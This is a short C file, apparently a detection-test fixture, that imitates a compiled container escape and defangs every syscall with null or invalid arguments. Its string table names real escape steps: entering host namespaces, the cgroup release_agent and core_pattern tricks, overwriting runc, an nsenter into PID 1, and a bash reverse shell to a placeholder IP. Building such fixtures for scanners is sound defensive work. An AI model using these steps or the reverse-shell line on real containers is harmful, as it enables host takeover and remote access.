/* Inert imitation of a compiled container escape: namespace entry, cgroup release agent, core pattern, overwrite of the runtime. Every call gets -1 or nothing. */
#define _GNU_SOURCE
#include "inert.h"
#include <sched.h>
TABLE(steps, "/proc/1/ns/mnt", "/proc/1/ns/pid", "/proc/1/ns/net", "/proc/1/root", "/sys/fs/cgroup/rdma/release_agent", "notify_on_release", "/proc/sys/kernel/core_pattern", "|/proc/%P/rootfs%s", "/proc/self/exe", "/usr/bin/docker-runc", "/usr/sbin/runc",
    "/proc/self/fd/%d", "mount -t cgroup -o rdma cgroup /tmp/cgrp", "sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab", "[+] Found runcinit at %d", "[+] Got handle of runc, overwriting", "#!/bin/bash\nbash -i >& /dev/tcp/{{ip:esc}}/2345 0>&1\n", "nsenter --target 1 --mount --uts --ipc --net --pid -- %s", "CAP_SYS_ADMIN present", "CAP_DAC_READ_SEARCH present", "escape to host done")
int main(int argc, char **argv) { INERT; tell(steps); setns(nowhere, 0); unshare(-1); mount(0, 0, 0, -1, 0); open_by_handle_at(nowhere, 0, 0); chroot(""); return execve(0, 0, 0); }
